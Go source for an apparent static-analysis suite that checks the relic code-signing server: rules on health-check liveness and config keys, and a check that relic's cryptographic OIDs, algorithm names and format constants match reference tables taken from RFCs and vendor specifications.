		okG := p.callGuard("Ping err==nil", []string{"(token.Token).Ping"}, -1, IsNil, nil)
		badG := p.callGuard("Ping err!=nil", []string{"(token.Token).Ping"}, -1, NonNil, nil)
		for i, r := range returnsOf(po) {
			b, isConst := boolConst(retVal(r, 0))
			key := fmt.Sprintf("%s return#%d", p.FName(po), i+1)
			if !isConst {
				c.Undecided(re, key, p.Pos(r.Pos()), "non-constant return value")
				continue
			}
			g := badG
			if b {
				g = okG
			}
			missing, path := p.unguardedFromEntry(po, r, g)
			c.Check(len(missing) == 0, re, key, p.Pos(r.Pos()), fmt.Sprintf("returns %v only when %s", b, g.Name), fmt.Sprintf("pingOne returns %v without %s", b, g.Name), path...)
		}
	}
}

// ------------------------------------------------------------------------------ R20f

// c20Liveness: (a) every completed check refreshes the "last checked" time, whatever its
// outcome (staleness must mean "the checker stopped running", not "the tokens are failing");
// (b) the worker's periodic check bounds each ping by a timeout that does not rely on the
// token honouring its context: the ping runs in its own goroutine and the loop waits in a
// select that also has the context's Done case.
func c20Liveness(c *Ctx) {
	p := c.P
	c.Rule("R20f", "every completed check refreshes the last-check time; the worker's ping is bounded by a timeout independent of the token", 3)
	hc := p.Func("server.(*Server).healthCheck")
	if hc == nil {
		c.Undecided("R20f", "healthCheck", "-", "function not found")
	} else {
		var st *ssa.Store
		for _, b := range hc.Blocks {
			for _, in := range b.Instrs {
				if s, ok := in.(*ssa.Store); ok && p.memKey(s.Addr) == "g:server.healthLastPing" {
					st = s
				}
			}
		}
		ok := st != nil
		if ok {
			for _, r := range returnsOf(hc) {
				if avoidable(hc, st, r) {
					ok = false
				}
			}
			// the stored value is the current time
			call, _ := resultOf(st.Val)
			if call == nil || p.calleeName(call.Common()) != "time.Now" {
				ok = false
			}
		}
		c.Check(ok, "R20f", "healthCheck refreshes healthLastPing on every path", p.Pos(hc.Pos()), "unconditional store of time.Now()", "a completed check can return without refreshing healthLastPing: after three failing checks the status is reported as stale and unhealthy whatever token_check_failures says, so the configured hysteresis above 3 never applies")
	}
	wh := p.Func("cmdline/workercmd.(*handler).healthCheck")
	if wh == nil {
		c.Undecided("R20f", "workercmd healthCheck", "-", "function not found")
		return
	}
	c.Analysed(p.FName(wh))
	// the Ping call sits in a goroutine body, not in the loop itself
	direct := false
	inGo := false
	for _, f := range withClosures(wh) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				n := p.calleeName(ci.Common())
				if !strings.HasSuffix(n, ").Ping") {
					continue
				}
				if f == wh {
					direct = true
				} else if mc := closureMaker(wh, f); mc != nil {
					for _, r := range *mc.Referrers() {
						if _, isGo := r.(*ssa.Go); isGo {
							inGo = true
						}
					}
				}
			}
		}
	}
	c.Check(inGo && !direct, "R20f", "worker ping runs in its own goroutine", p.Pos(wh.Pos()), "", "the worker's health loop calls Ping synchronously: a token whose Ping ignores its context (the PKCS#11 token does) blocks the loop forever, so a wedged device is never detected and the check for a vanished parent process is never reached")
	// the wait is a select with a Done() case
	okSel := false
	for _, b := range wh.Blocks {
		for _, in := range b.Instrs {
			sel, ok := in.(*ssa.Select)
			if !ok || !sel.Blocking {
				continue
			}
			for _, st := range sel.States {
				if call, _ := resultOf(st.Chan); call != nil && p.calleeName(call.Common()) == "(context.Context).Done" {
					okSel = true
				}
			}
		}
	}
	c.Check(okSel, "R20f", "worker waits for the ping or the timeout", p.Pos(wh.Pos()), "select with ctx.Done()", "the worker's health loop does not wait in a select that includes the timeout context's Done channel")
}

// healthStarter: the one function of package server that holds the `go healthCheckLoop` statement.
func healthStarter(p *Prog) *ssa.Function {
	var out *ssa.Function
	for _, fn := range p.pkgFuncs("server") {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if g, ok := in.(*ssa.Go); ok && p.calleeName(g.Common()) == "(*server.Server).healthCheckLoop" {
					if out != nil && out != fn {
						return nil
					}
					out = fn
				}
			}
		}
	}
	return out
}

// healthPinger: the function of package server that pings one token and answers a boolean
// (pingOne today) - found by what it does.
func healthPinger(p *Prog) *ssa.Function {
	var out *ssa.Function
	for _, fn := range p.pkgFuncs("server") {
		res := fn.Signature.Results()
		if res.Len() != 1 || !isBool(res.At(0).Type()) || len(p.callsIn(fn, "(token.Token).Ping")) == 0 {
			continue
		}
		if out != nil {
			return nil
		}
		out = fn
	}
	return out
}

// closeSteps: where (*Server).Close signals the health loop and where it closes the tokens.
type closeSteps struct {
	closeCalls []*ssa.Call       // the close() builtins of the signalling step
	sigHost    *ssa.Function     // the function that holds them (Close, or the helper it calls)
	sigSite    ssa.Instruction   // the instruction of Close that is (or calls) the signalling step
	tokSites   []ssa.Instruction // the instructions of Close that close (or call a helper that closes) tokens
}

func serverCloseSteps(p *Prog, closeFn *ssa.Function) closeSteps {
	var st closeSteps
	st.sigHost = closeFn
	builtinCloses := func(fn *ssa.Function) []*ssa.Call {
		var out []*ssa.Call
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if call, ok := in.(*ssa.Call); ok {
					if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "close" {
						out = append(out, call)
					}
				}
			}
		}
		return out
	}
	tokenCloses := func(fn *ssa.Function) []ssa.CallInstruction {
		var out []ssa.CallInstruction
		for _, tc := range p.callsIn(fn, "(io.Closer).Close", "(token.Token).Close") {
			if p.Rel(tc.Common().Value.Type().String()) == "token.Token" {
				out = append(out, tc)
			}
		}
		return out
	}
	st.closeCalls = builtinCloses(closeFn)
	if len(st.closeCalls) == 1 {
		st.sigSite = st.closeCalls[0]
	}
	for _, tc := range tokenCloses(closeFn) {
		st.tokSites = append(st.tokSites, tc)
	}
	for _, ci := range callsOf(closeFn) {
		h := ci.Common().StaticCallee()
		if h == nil || h.Pkg != closeFn.Pkg || h.Blocks == nil {
			continue
		}
		if cs := builtinCloses(h); len(cs) > 0 && len(st.closeCalls) == 0 {
			st.closeCalls, st.sigHost, st.sigSite = cs, h, ci
		} else if len(cs) > 0 {
			st.closeCalls = append(st.closeCalls, cs...)
		}
		if len(tokenCloses(h)) > 0 {
			st.tokSites = append(st.tokSites, ci)
		}
	}
	return st
}

// ------------------------------------------------------------------------------ R20k

// yamlKeysOf: the keys yaml.v3 reads into struct st, mapped to the Go field that receives them:
// exported fields under their tag name or their lower-cased name; an embedded struct contributes
// its own keys only when tagged `yaml:",inline"` - otherwise it is ONE key named after its type.
func yamlKeysOf(st *types.Struct, out map[string]string, depth int) {
	if depth > 4 {
		return
	}
	for i := 0; i < st.NumFields(); i++ {
		f := st.Field(i)
		if !f.Exported() {
			continue
		}
		tag := reflectTag(st.Tag(i), "yaml")
		name, opts, _ := strings.Cut(tag, ",")
		if name == "-" {
			continue
		}
		inline := false
		for _, o := range strings.Split(opts, ",") {
			if o == "inline" {
				inline = true
			}
		}
		if inline {
			t := f.Type()
			if pt, ok := t.Underlying().(*types.Pointer); ok {
				t = pt.Elem()
			}
			if inner, ok := t.Underlying().(*types.Struct); ok {
				yamlKeysOf(inner, out, depth+1)
			}
			continue
		}
		if name == "" {
			name = strings.ToLower(f.Name())
		}
		out[name] = f.Name()
	}
}

func healthSettingsAreServerKeys(p *Prog) (out []gFinding) {
	var cfgPkg *types.Package
	for _, fn := range p.pkgFuncs("config") {
		if fn.Pkg != nil {
			cfgPkg = fn.Pkg.Pkg
			break
		}
	}
	if cfgPkg == nil {
		return []gFinding{{Key: "package config", Pos: "-", OK: false, Detail: "package config not found"}}
	}
	obj := cfgPkg.Scope().Lookup("ServerConfig")
	if obj == nil {
		return []gFinding{{Key: "config.ServerConfig", Pos: "-", OK: false, Detail: "type not found"}}
	}
	st, ok := obj.Type().Underlying().(*types.Struct)
	if !ok {
		return []gFinding{{Key: "config.ServerConfig", Pos: "-", OK: false, Detail: "not a struct"}}
	}
	keys := map[string]string{}
	yamlKeysOf(st, keys, 0)
	for _, name := range []string{"TokenCheckFailures", "TokenCheckInterval", "TokenCheckTimeout"} {
		got := keys[strings.ToLower(name)]
		out = append(out, gFinding{Key: "server." + strings.ToLower(name) + " fills ServerConfig." + name, Pos: p.Pos(obj.Pos()), OK: got == name,
			Detail: "the YAML key server." + strings.ToLower(name) + " no longer fills the field the health checker reads (an embedded struct without `yaml:\",inline\"` is one nested key to yaml.v3, a renaming tag changes the key): the configured value is ignored and the default always applies"})
	}
	return out
}
