package main

// C05 — signatures are accepted by each ecosystem's reference verifier.
//
// Acceptance by jarsigner, OpenSSL, GnuPG, dpkg or a specification-derived digest is a
// comparison with implementations that are not in the source tree, and taken whole it is
// not decidable from the shape of relic's code. What *is* in the shape of the code, and is
// invisible to every relic-only test because signer and verifier share it, are the constants
// the specifications prescribe: object identifiers, algorithm names and URIs, signature
// algorithm numbers, header offsets, tags and prefix bytes. This file carries those values
// as reference tables written from the specifications (RFC 3279/4055/5480/5652/5758/3161,
// XML-DSig / RFC 4051/6931, the JCA standard names, the APK Signature Scheme v2 description,
// Microsoft's Authenticode_PE document) or derived from an independent implementation that
// is present in type-checked form (the PE structures of the standard library's debug/pe), and
// compares relic's tables and constant operands with them.
//
// The binding between a value in relic and its role in the reference is never a source
// position: tables are bound through keys that are standard-library identities
// (crypto.SHA256, x509.ECDSA, elliptic.P256()), constants through the operation they feed
// (the slice bounds cut out of the optional header, the value written in front of a chunk
// length), named object identifiers through the name the code itself gives them.

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/packages"
)

func init() {
	register(&propDef{
		ID: "C05",
		Meta: propMeta{
			Explanation: "Decides one structural necessary condition of acceptance by outside verifiers (nothing is executed, no outside tool is run): the constants the specifications prescribe have the prescribed values in relic's source. (R05a) every map from crypto.Hash to an object identifier maps each hash to its RFC 3279/5758 digest OID; (R05b) every table from crypto.Hash to an algorithm name or URI (JAR digest attribute names, XML-DSig and appx block map URIs, OCI digest names) maps each hash to a name of that very hash; (R05c) every table of (public key algorithm, hash, OID) lists the RFC 3279/4055/5758 signature algorithm OID of that pair; (R05d) every table of named curves pairs elliptic.Pnnn() with its RFC 5480 OID and bit size; (R05e) the APK signature algorithm table pairs (hash, key type, PSS) with the IDs of the APK Signature Scheme v2; (R05f) every package-level object identifier whose name states a role the reference registry knows (OidAttributeMessageDigest, OidSpcIndirectDataContent, ...) has that role's value, and no two of them share a value; (R05g) the byte ranges DigestPE leaves out of the image hash are the CheckSum field and the fifth data directory entry as laid out by debug/pe's OptionalHeader32/64, the constants 24, 88 and 40 are the sizes of the PE signature plus file header, the checksum's file offset behind the PE header and a section header, and the image is padded to 8 bytes; (R05h) the APK v2 chunk prefix is 0xa5 in front of a chunk length and 0x5a in front of the chunk count, chunks are 1 MiB, the block ID is 0x7109871a and the magic \"APK Sig Block 42\"; (R05i) the attributes the CMS builder adds are contentType for an OID value, messageDigest for the digest and signingTime for a time, under their RFC 5652 identifiers, and the bytes digested for the signature carry the SET OF tag and are not reordered on the way (no sort and no `set` marshalling parameter in the functions reachable from AttributeList.Bytes / AuthenticatedAttributesBytes); (R05j) RSA-PSS parameters name MGF1 with the same hash and trailer field 1; (R05k) the JAR signature file uses Signature-Version: 1.0 and the digest attribute suffixes -Digest, -Digest-Manifest and -Digest-Manifest-Main-Attributes; (R05l) the function that builds an RFC 3161 request sets version 1 and posts it as application/timestamp-query; (R05m) the dpkg-sig control block starts with Version: 4, Signer, Date, Role, Files in that order and the member is named _gpg<role>; (R05o) string constants named after an item a format prescribes (the two MSI signature streams, the PowerShell block markers, the appx member names, META-INF/MANIFEST.MF) are spelt as prescribed; the appx digest blob is APPX AXPC AXCD AXCT AXBM AXCI behind the PKCX magic; the JAR signature block is named .RSA for an RSA key and .EC for an EC key; (R05n) the OpenPGP packet header writer compares the body length with exactly the RFC 4880 boundaries 192 and 8384. (R05s) every call that emits the APK hasher's partial buffer (block(buf[:n])) lies behind a test n != 0: no empty chunk enters the v2 digest; (R05t) every store into peHeaderValues.pageSize stores the constant 4096 or 8192, the latter only behind comparisons of FileHeader.Machine with 0x200, 0x184 or 0x284. (R05p) xmldsig.hashAlgs returns a SignatureMethod URI built in the xmldsig# namespace only on paths where the key type was found to be RSA, and none built in xmldsig-more# when the key is RSA and the hash SHA-1 (reachability of the return with the contradicting edges deleted); (R05q) the comparison loop of sortMsiFiles is bounded by min of both recorded name lengths, halved, not otherwise adjusted; (R05r) where signjar cuts a manifest section at the result of a search for a blank-line delimiter, the section ends at index + len(delimiter) for every consistent choice of phi edges (conditional: a splitter of another shape is not judged). (R05u) the canonicaliser's attribute comparator puts namespace declarations first and orders attributes by resolved namespace URI, then local name (the analysis of C19 R19e; a comparator of a shape it cannot follow is reported as undecided); (R05v) the size stored in the PE security data directory is not taken from the length of a buffer that begins with CertStart-OrigSize alignment bytes unless that quantity is subtracted.",
			NotDecided:  "acceptance itself: that the bytes relic digests are the bytes the specification says (region order beyond the fields checked, page hashes, the checksum algorithm, the JAR manifest section digests and line folding, the MSI stream order, the CAB header digest, the APK chunk tree over the right sections, canonical XML), DER encodings produced by encoding/asn1, PGP packet framing, the dpkg-sig member layout. Those compare relic's output with an outside implementation on concrete inputs and need that implementation to run; they are not claimed. A table entry the reference tables do not know (a new hash, a vendor OID) is reported as not covered, not as a violation.",
			Assumptions: []string{"the reference tables in c05.go, written from the RFCs and vendor specifications named there", "debug/pe's OptionalHeader32/64, FileHeader, SectionHeader32 and DataDirectory lay the PE headers out as the PE/COFF specification does"},
		},
		Run: runC05,
	})
}

func runC05(c *Ctx) {
	defer round7C05(c)
	c.Rule("R05a", "hash -> digest algorithm OID tables agree with RFC 3279 / RFC 5758", 6)
	c.Rule("R05b", "hash -> algorithm name / URI tables name the hash they are keyed by", 15)
	c.Rule("R05c", "(key algorithm, hash) -> signature algorithm OID tables agree with RFC 3279 / 4055 / 5758", 12)
	c.Rule("R05d", "named curve tables pair each curve with its RFC 5480 OID and size", 3)
	c.Rule("R05e", "the APK signature algorithm table agrees with the APK Signature Scheme v2", 7)
	c.Rule("R05f", "object identifiers named after a standard role have that role's value; no value is bound to two roles", 40)
	ev := newC05Eval(c.P)
	c05Tables(c, ev)
	c05NamedOids(c, ev)
	c05Code(c, ev)
}

// ---------------------------------------------------------------------------------
// evaluation of package-level literals from the typed syntax

type aval struct {
	kind   string // int string bool oid call struct list map unknown
	i      int64
	s      string
	b      bool
	oid    []int64
	sym    string // qualified name of the constant / function the expression names, if any
	fields map[string]*aval
	order  []string
	keys   []*aval
	elems  []*aval
	typ    types.Type
	pos    token.Pos
}

func (a *aval) oidString() string {
	if a == nil || a.kind != "oid" {
		return ""
	}
	parts := make([]string, len(a.oid))
	for i, n := range a.oid {
		parts[i] = fmt.Sprint(n)
	}
	return strings.Join(parts, ".")
}

type c05Var struct {
	pk   *packages.Package
	obj  *types.Var
	init ast.Expr
}

type c05Eval struct {
	p    *Prog
	vars map[*types.Var]*c05Var
	list []*c05Var
}

func newC05Eval(p *Prog) *c05Eval {
	ev := &c05Eval{p: p, vars: map[*types.Var]*c05Var{}}
	var paths []string
	for path, pk := range p.ByPath {
		if pk.Types != nil && p.InModule(pk.Types) {
			paths = append(paths, path)
		}
	}
	sort.Strings(paths)
	for _, path := range paths {
		pk := p.ByPath[path]
		for _, f := range pk.Syntax {
			for _, d := range f.Decls {
				gd, ok := d.(*ast.GenDecl)
				if !ok || gd.Tok != token.VAR {
					continue
				}
				for _, sp := range gd.Specs {
					vs := sp.(*ast.ValueSpec)
					for i, id := range vs.Names {
						if i >= len(vs.Values) {
							continue
						}
						obj, _ := pk.TypesInfo.Defs[id].(*types.Var)
						if obj == nil {
							continue
						}
						v := &c05Var{pk: pk, obj: obj, init: vs.Values[i]}
						ev.vars[obj] = v
						ev.list = append(ev.list, v)
					}
				}
			}
		}
	}
	return ev
}

func qualified(obj types.Object) string {
	if obj == nil || obj.Pkg() == nil {
		return ""
	}
	return obj.Pkg().Path() + "." + obj.Name()
}

func isNamed(t types.Type, path, name string) bool {
	n, ok := t.(*types.Named)
	return ok && n.Obj().Pkg() != nil && n.Obj().Pkg().Path() == path && n.Obj().Name() == name
}

func (ev *c05Eval) eval(pk *packages.Package, e ast.Expr, depth int) *aval {
	out := &aval{kind: "unknown", pos: e.Pos()}
	if depth > 8 {
		return out
	}
	tv, has := pk.TypesInfo.Types[e]
	if has {
		out.typ = tv.Type
	}
	// what the expression names
	var obj types.Object
	switch x := e.(type) {
	case *ast.Ident:
		obj = pk.TypesInfo.Uses[x]
	case *ast.SelectorExpr:
		obj = pk.TypesInfo.Uses[x.Sel]
	case *ast.ParenExpr:
		return ev.eval(pk, x.X, depth)
	}
	if obj != nil {
		out.sym = qualified(obj)
	}
	if has && tv.Value != nil {
		switch tv.Value.Kind() {
		case constant.Int:
			if i, ok := constant.Int64Val(tv.Value); ok {
				out.kind, out.i = "int", i
			}
		case constant.String:
			out.kind, out.s = "string", constant.StringVal(tv.Value)
		case constant.Bool:
			out.kind, out.b = "bool", constant.BoolVal(tv.Value)
		}
		return out
	}
	switch x := e.(type) {
	case *ast.Ident, *ast.SelectorExpr:
		if v, ok := obj.(*types.Var); ok {
			if def := ev.vars[v]; def != nil {
				r := ev.eval(def.pk, def.init, depth+1)
				r.sym = out.sym
				return r
			}
		}
	case *ast.UnaryExpr:
		if x.Op == token.AND {
			return ev.eval(pk, x.X, depth)
		}
	case *ast.CallExpr:
		var fobj types.Object
		switch f := x.Fun.(type) {
		case *ast.Ident:
			fobj = pk.TypesInfo.Uses[f]
		case *ast.SelectorExpr:
			fobj = pk.TypesInfo.Uses[f.Sel]
		}
		if fn, ok := fobj.(*types.Func); ok {
			out.kind, out.sym = "call", qualified(fn)
		}
	case *ast.CompositeLit:
		if out.typ == nil {
			return out
		}
		if isNamed(out.typ, "encoding/asn1", "ObjectIdentifier") {
			out.kind = "oid"
			for _, el := range x.Elts {
				v := ev.eval(pk, el, depth+1)
				if v.kind != "int" {
					out.kind = "unknown"
					return out
				}
				out.oid = append(out.oid, v.i)
			}
			return out
		}
		switch u := out.typ.Underlying().(type) {
		case *types.Struct:
			out.kind = "struct"
			out.fields = map[string]*aval{}
			for i, el := range x.Elts {
				if kv, ok := el.(*ast.KeyValueExpr); ok {
					if id, ok := kv.Key.(*ast.Ident); ok {
						out.fields[id.Name] = ev.eval(pk, kv.Value, depth+1)
						out.order = append(out.order, id.Name)
					}
				} else if i < u.NumFields() {
					out.fields[u.Field(i).Name()] = ev.eval(pk, el, depth+1)
					out.order = append(out.order, u.Field(i).Name())
				}
			}
		case *types.Slice, *types.Array:
			out.kind = "list"
			for _, el := range x.Elts {
				if kv, ok := el.(*ast.KeyValueExpr); ok {
					el = kv.Value
				}
				out.elems = append(out.elems, ev.eval(pk, el, depth+1))
			}
		case *types.Map:
			out.kind = "map"
			for _, el := range x.Elts {
				if kv, ok := el.(*ast.KeyValueExpr); ok {
					out.keys = append(out.keys, ev.eval(pk, kv.Key, depth+1))
					out.elems = append(out.elems, ev.eval(pk, kv.Value, depth+1))
				}
			}
		}
	}
	return out
}

// ---------------------------------------------------------------------------------
// reference tables

// RFC 3279 section 2.2.x, RFC 5758 section 2, NIST CSOR
var refDigestOID = map[string]string{
	"crypto.MD5":        "1.2.840.113549.2.5",
	"crypto.SHA1":       "1.3.14.3.2.26",
	"crypto.SHA224":     "2.16.840.1.101.3.4.2.4",
	"crypto.SHA256":     "2.16.840.1.101.3.4.2.1",
	"crypto.SHA384":     "2.16.840.1.101.3.4.2.2",
	"crypto.SHA512":     "2.16.840.1.101.3.4.2.3",
	"crypto.SHA512_224": "2.16.840.1.101.3.4.2.5",
	"crypto.SHA512_256": "2.16.840.1.101.3.4.2.6",
	"crypto.SHA3_224":   "2.16.840.1.101.3.4.2.7",
	"crypto.SHA3_256":   "2.16.840.1.101.3.4.2.8",
	"crypto.SHA3_384":   "2.16.840.1.101.3.4.2.9",
	"crypto.SHA3_512":   "2.16.840.1.101.3.4.2.10",
}

// JCA standard algorithm names (what jarsigner resolves "<name>-Digest" with), XML-DSig core,
// RFC 4051 / RFC 6931 URIs, xmlenc URIs, OCI digest algorithm names
var refHashNames = map[string][]string{
	"crypto.MD5":    {"MD5", "md5", "http://www.w3.org/2001/04/xmldsig-more#md5"},
	"crypto.SHA1":   {"SHA1", "SHA-1", "sha1", "http://www.w3.org/2000/09/xmldsig#sha1"},
	"crypto.SHA224": {"SHA-224", "SHA224", "sha224", "http://www.w3.org/2001/04/xmldsig-more#sha224"},
	"crypto.SHA256": {"SHA-256", "SHA256", "sha256", "http://www.w3.org/2001/04/xmlenc#sha256"},
	"crypto.SHA384": {"SHA-384", "SHA384", "sha384", "http://www.w3.org/2001/04/xmldsig-more#sha384"},
	"crypto.SHA512": {"SHA-512", "SHA512", "sha512", "http://www.w3.org/2001/04/xmlenc#sha512"},
}

// RFC 3279 2.2/2.3, RFC 4055 (PSS, SHA-2 with RSA), RFC 5758 (DSA/ECDSA with SHA-2)
var refSigAlgOID = map[string][]string{
	"RSA/":         {"1.2.840.113549.1.1.1", "1.2.840.113549.1.1.10"},
	"DSA/":         {"1.2.840.10040.4.1"},
	"ECDSA/":       {"1.2.840.10045.2.1"},
	"RSA/MD5":      {"1.2.840.113549.1.1.4"},
	"RSA/SHA1":     {"1.2.840.113549.1.1.5", "1.3.14.3.2.29"},
	"RSA/SHA224":   {"1.2.840.113549.1.1.14"},
	"RSA/SHA256":   {"1.2.840.113549.1.1.11"},
	"RSA/SHA384":   {"1.2.840.113549.1.1.12"},
	"RSA/SHA512":   {"1.2.840.113549.1.1.13"},
	"DSA/SHA1":     {"1.2.840.10040.4.3"},
	"DSA/SHA224":   {"2.16.840.1.101.3.4.3.1"},
	"DSA/SHA256":   {"2.16.840.1.101.3.4.3.2"},
	"ECDSA/SHA1":   {"1.2.840.10045.4.1"},
	"ECDSA/SHA224": {"1.2.840.10045.4.3.1"},
	"ECDSA/SHA256": {"1.2.840.10045.4.3.2"},
	"ECDSA/SHA384": {"1.2.840.10045.4.3.3"},
	"ECDSA/SHA512": {"1.2.840.10045.4.3.4"},
}

// RFC 5480 section 2.1.1.1
var refCurves = map[string]struct {
	oid  string
	bits int64
}{
	"crypto/elliptic.P224": {"1.3.132.0.33", 224},
	"crypto/elliptic.P256": {"1.2.840.10045.3.1.7", 256},
	"crypto/elliptic.P384": {"1.3.132.0.34", 384},
	"crypto/elliptic.P521": {"1.3.132.0.35", 521},
}

// source.android.com/docs/security/features/apksigning/v2 "Signature algorithm IDs"
var refApkSigIDs = map[string]int64{
	"SHA256/RSA/pss": 0x0101,
	"SHA512/RSA/pss": 0x0102,
	"SHA256/RSA/":    0x0103,
	"SHA512/RSA/":    0x0104,
	"SHA256/ECDSA/":  0x0201,
	"SHA512/ECDSA/":  0x0202,
	"SHA256/DSA/":    0x0301,
}

// roles by the name the code gives the variable (lower-cased, leading "oid" removed).
// RFC 5652 / PKCS#9 (RFC 2985), RFC 3161, RFC 5280, RFC 3279/4055/5758, Microsoft Authenticode.
var refNamedOIDs = map[string]string{
	"publickeyrsa":              "1.2.840.113549.1.1.1",
	"publickeydsa":              "1.2.840.10040.4.1",
	"publickeyecdsa":            "1.2.840.10045.2.1",
	"signaturemd5withrsa":       "1.2.840.113549.1.1.4",
	"signaturesha1withrsa":      "1.2.840.113549.1.1.5",
	"signaturesha256withrsa":    "1.2.840.113549.1.1.11",
	"signaturesha384withrsa":    "1.2.840.113549.1.1.12",
	"signaturesha512withrsa":    "1.2.840.113549.1.1.13",
	"signaturedsawithsha1":      "1.2.840.10040.4.3",
	"signaturedsawithsha256":    "2.16.840.1.101.3.4.3.2",
	"signatureecdsawithsha1":    "1.2.840.10045.4.1",
	"signatureecdsawithsha256":  "1.2.840.10045.4.3.2",
	"signatureecdsawithsha384":  "1.2.840.10045.4.3.3",
	"signatureecdsawithsha512":  "1.2.840.10045.4.3.4",
	"isosignaturesha1withrsa":   "1.3.14.3.2.29",
	"mgf1":                      "1.2.840.113549.1.1.8",
	"signaturersapss":           "1.2.840.113549.1.1.10",
	"digestmd5":                 "1.2.840.113549.2.5",
	"digestsha1":                "1.3.14.3.2.26",
	"digestsha224":              "2.16.840.1.101.3.4.2.4",
	"digestsha256":              "2.16.840.1.101.3.4.2.1",
	"digestsha384":              "2.16.840.1.101.3.4.2.2",
	"digestsha512":              "2.16.840.1.101.3.4.2.3",
	"extensionsubjectkeyid":     "2.5.29.14",
	"extensionkeyusage":         "2.5.29.15",
	"extensionsubjectaltname":   "2.5.29.17",
	"extensionbasicconstraints": "2.5.29.19",
	"extensionauthoritykeyid":   "2.5.29.35",
	"extensionextendedkeyusage": "2.5.29.37",
	"data":                      "1.2.840.113549.1.7.1",
	"signeddata":                "1.2.840.113549.1.7.2",
	"attributecontenttype":      "1.2.840.113549.1.9.3",
	"attributemessagedigest":    "1.2.840.113549.1.9.4",
	"attributesigningtime":      "1.2.840.113549.1.9.5",
	"attributecountersign":      "1.2.840.113549.1.9.6",
	"attributetimestamptoken":   "1.2.840.113549.1.9.16.2.14",
	"tstinfo":                   "1.2.840.113549.1.9.16.1.4",
	"keypurposetimestamping":    "1.3.6.1.5.5.7.3.8",
	"spctimestamprequest":       "1.3.6.1.4.1.311.3.2.1",
	"spctimestamptoken":         "1.3.6.1.4.1.311.3.3.1",
	"spcindirectdatacontent":    "1.3.6.1.4.1.311.2.1.4",
	"spcstatementtype":          "1.3.6.1.4.1.311.2.1.11",
	"spcspopusinfo":             "1.3.6.1.4.1.311.2.1.12",
	"spcpeimagedata":            "1.3.6.1.4.1.311.2.1.15",
	"spcindividualpurpose":      "1.3.6.1.4.1.311.2.1.21",
	"spccabimagedata":           "1.3.6.1.4.1.311.2.1.25",
	"spcsipinfo":                "1.3.6.1.4.1.311.2.1.30",
	"spcpagehashv1":             "1.3.6.1.4.1.311.2.3.1",
	"spcpagehashv2":             "1.3.6.1.4.1.311.2.3.2",
	"certtrustlist":             "1.3.6.1.4.1.311.10.1",
	"cataloglist":               "1.3.6.1.4.1.311.12.1.1",
	"cataloglistmember":         "1.3.6.1.4.1.311.12.1.2",
	"cataloglistmemberv2":       "1.3.6.1.4.1.311.12.1.3",
	"catalognamevalue":          "1.3.6.1.4.1.311.12.2.1",
	"catalogmemberinfo":         "1.3.6.1.4.1.311.12.2.2",
	"catalogmemberinfov2":       "1.3.6.1.4.1.311.12.2.3",
}

func shortSym(sym, pkgPath string) string {
	return strings.TrimPrefix(sym, pkgPath+".")
}

func inList(s string, l []string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------------------
// R05a-R05e: tables keyed by standard-library identities

func (ev *c05Eval) varName(v *c05Var) string {
	return ev.p.Rel(v.pk.PkgPath) + "." + v.obj.Name()
}

func structFieldOfType(st *aval, pred func(*aval) bool) *aval {
	if st == nil || st.kind != "struct" {
		return nil
	}
	for _, name := range st.order {
		if f := st.fields[name]; f != nil && pred(f) {
			return f
		}
	}
	return nil
}

func c05Tables(c *Ctx, ev *c05Eval) {
	p := c.P
	isHashKey := func(a *aval) bool { return a != nil && a.typ != nil && isNamed(a.typ, "crypto", "Hash") }
	isPubAlg := func(a *aval) bool {
		return a != nil && a.typ != nil && isNamed(a.typ, "crypto/x509", "PublicKeyAlgorithm")
	}
	isOID := func(a *aval) bool { return a != nil && a.kind == "oid" }
	uncovered := 0
	for _, v := range ev.list {
		t := v.obj.Type()
		name := ev.varName(v)
		switch u := t.Underlying().(type) {
		case *types.Map:
			if !isNamed(u.Key(), "crypto", "Hash") {
				continue
			}
			val := ev.eval(v.pk, v.init, 0)
			if val.kind != "map" {
				continue
			}
			if isNamed(u.Elem(), "encoding/asn1", "ObjectIdentifier") {
				c.Analysed(name)
				for i, k := range val.keys {
					key := fmt.Sprintf("%s[%s]", name, shortSym(k.sym, "crypto"))
					want, known := refDigestOID[k.sym]
					if !known {
						uncovered++
						c.PassTrivial("R05a", key, p.Pos(k.pos), "not covered: the reference table has no digest OID for this key")
						continue
					}
					got := val.elems[i].oidString()
					c.Check(got == want, "R05a", key, p.Pos(val.elems[i].pos), "= "+want, fmt.Sprintf("the digest algorithm identifier for %s is %s, RFC 3279/5758 assign %s: every DigestInfo, CMS digestAlgorithm and timestamp imprint relic writes for this hash names an algorithm no other implementation recognises (relic's own verifier reads the same table and agrees with itself)", k.sym, got, want))
				}
				continue
			}
			if b, ok := u.Elem().Underlying().(*types.Basic); ok && b.Info()&types.IsString != 0 {
				// is this a table of algorithm names at all? at least half of its values are names of some hash
				recognised := 0
				for _, e := range val.elems {
					for _, names := range refHashNames {
						if e.kind == "string" && inList(e.s, names) {
							recognised++
							break
						}
					}
				}
				if recognised*2 < len(val.elems) || len(val.elems) == 0 {
					continue
				}
				c.Analysed(name)
				for i, k := range val.keys {
					key := fmt.Sprintf("%s[%s]", name, shortSym(k.sym, "crypto"))
					names, known := refHashNames[k.sym]
					if !known {
						uncovered++
						c.PassTrivial("R05b", key, p.Pos(k.pos), "not covered: no reference names for this key")
						continue
					}
					e := val.elems[i]
					c.Check(e.kind == "string" && inList(e.s, names), "R05b", key, p.Pos(e.pos), fmt.Sprintf("%q", e.s),
						fmt.Sprintf("%s is given the algorithm name %q; the names of that hash are %v: a digest computed with one algorithm is labelled as another (or with a name nobody resolves), which jarsigner, an XML-DSig validator or an OCI registry rejects while relic's own verifier, reading the same table backwards, accepts", k.sym, e.s, names))
				}
			}
		case *types.Slice:
			val := ev.eval(v.pk, v.init, 0)
			if val.kind != "list" || len(val.elems) == 0 || val.elems[0].kind != "struct" {
				continue
			}
			first := val.elems[0]
			hasHash := structFieldOfType(first, isHashKey) != nil
			hasAlg := structFieldOfType(first, isPubAlg) != nil
			hasOID := structFieldOfType(first, isOID) != nil
